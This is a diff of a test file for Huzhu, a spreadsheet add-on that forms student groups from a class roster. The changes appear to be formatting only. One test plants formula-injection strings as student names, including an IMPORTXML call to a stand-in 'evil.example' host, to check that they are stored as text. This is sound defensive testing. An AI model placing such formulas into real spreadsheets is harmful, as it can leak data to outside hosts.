@@ -14,7 +14,13 @@ describe('Form groups through the menu', () => {
     s.menu('showFormGroups');
     expect(s.si.ui.dialog?.title).toBe('互助 · 分组');
     const p = s.call('formGroupsPreview');
-    expect(p).toMatchObject({ ok: true, sheetName: '名单', students: 24, hasErrors: false, subjects: ['语文', '数学', '英语'] });
+    expect(p).toMatchObject({
+      ok: true,
+      sheetName: '名单',
+      students: 24,
+      hasErrors: false,
+      subjects: ['语文', '数学', '英语'],
+    });
     expect(p.problems).toEqual([]);
 
     const r = s.call('formGroupsRun', formGroupsRequest);
@@ -28,7 +34,8 @@ describe('Form groups through the menu', () => {
     expect(members.every((m) => typeof m[1] === 'string')).toBe(true);
     const groups = new Set(members.map((m) => m[0]));
     expect(groups.size).toBe(6);
-    for (const g of groups) expect(members.filter((m) => m[0] === g).some((m) => String(m[3]).includes('组长'))).toBe(true);
+    for (const g of groups)
+      expect(members.filter((m) => m[0] === g).some((m) => String(m[3]).includes('组长'))).toBe(true);
     // 学生1 must not share a group with 学生2 (不同组 column).
     const groupOf = (name: string) => members.find((m) => m[2] === name)?.[0];
     expect(groupOf('学生1')).not.toBe(groupOf('学生2'));
@@ -96,11 +103,17 @@ describe('Form groups through the menu', () => {
   });
 
   it('reads the roster from the active sheet when it is a class list, else from 名单; English names in English', async () => {
-    const other = ROSTER_ZH.slice(0, 9).map((r, i) => (i === 0 ? ['Student ID', 'Name', 'Math'] : [`E${i}`, `Pupil ${i}`, 50 + i]));
+    const other = ROSTER_ZH.slice(0, 9).map((r, i) =>
+      i === 0 ? ['Student ID', 'Name', 'Math'] : [`E${i}`, `Pupil ${i}`, 50 + i],
+    );
     const s = await open({ locale: 'en', workbookOptions: { sheets: { Roster: ROSTER_ZH, 'Class 2': other } } });
     s.si.openSheet('Class 2');
     expect(s.call('formGroupsPreview')).toMatchObject({ sheetName: 'Class 2', students: 8 });
-    expect(s.call('formGroupsRun', { by: 'groups', value: 2, mix: 'none' })).toMatchObject({ ok: true, sheetName: 'Groups', groups: 2 });
+    expect(s.call('formGroupsRun', { by: 'groups', value: 2, mix: 'none' })).toMatchObject({
+      ok: true,
+      sheetName: 'Groups',
+      groups: 2,
+    });
     s.si.openSheet('Groups'); // one of Huzhu's own sheets: never read as a roster
     expect(s.call('formGroupsPreview')).toMatchObject({ sheetName: 'Roster', students: 24 });
   });
@@ -110,7 +123,11 @@ describe('Form groups through the menu', () => {
     const a = s.call('formGroupsRun', { by: 'groups', value: 99, mix: 'none' });
     expect(a).toMatchObject({ ok: false, message: expect.stringMatching(/^还没有分组：组数必须是1到24之间的整数/) });
     const bad = ROSTER_ZH.map((r) => [...r]);
-    for (let i = 1; i <= 7; i++) bad[i]![6] = ROSTER_ZH.slice(1, 8).filter((_, j) => j !== i - 1).map((x) => x[1]).join('、');
+    for (let i = 1; i <= 7; i++)
+      bad[i]![6] = ROSTER_ZH.slice(1, 8)
+        .filter((_, j) => j !== i - 1)
+        .map((x) => x[1])
+        .join('、');
     s.si.workbook.setSheet('名单', bad); // seven students who must all be apart, in six groups
     s.si.openSheet('名单');
     const c = s.call('formGroupsRun', formGroupsRequest);
@@ -124,13 +141,24 @@ describe('Form groups through the menu', () => {
 
   it('keeps formula-looking names as text in the Groups sheet', async () => {
     const evil = ['=IMPORTXML("http://evil.example","//a")', '+1', '-2', '@x'];
-    const rows = ROSTER_ZH.map((r, i) => (i >= 1 && i <= 4 ? [r[0], evil[i - 1], ...r.slice(2, 6), ''] : r.slice(0, 6).concat([''])));
+    const rows = ROSTER_ZH.map((r, i) =>
+      i >= 1 && i <= 4 ? [r[0], evil[i - 1], ...r.slice(2, 6), ''] : r.slice(0, 6).concat(['']),
+    );
     rows[0] = ROSTER_ZH[0]!;
     // The teacher typed them as text (Sheets would otherwise have made formulas of them already).
-    const s = await open({ workbookOptions: { sheets: { 名单: rows.map((r, i) => (i >= 1 && i <= 4 ? [r[0], `'${r[1]}`, ...r.slice(2)] : r)) } } });
+    const s = await open({
+      workbookOptions: {
+        sheets: { 名单: rows.map((r, i) => (i >= 1 && i <= 4 ? [r[0], `'${r[1]}`, ...r.slice(2)] : r)) },
+      },
+    });
     expect(s.call('formGroupsRun', formGroupsRequest).ok).toBe(true);
     const sheet = s.si.workbook.sheet('分组');
-    expect(sheet.formulas().flat().filter((f) => f !== '')).toEqual([]);
+    expect(
+      sheet
+        .formulas()
+        .flat()
+        .filter((f) => f !== ''),
+    ).toEqual([]);
     const names = membersTable(sheet.values()).map((m) => m[2]);
     for (const e of evil) expect(names).toContain(e);
   });
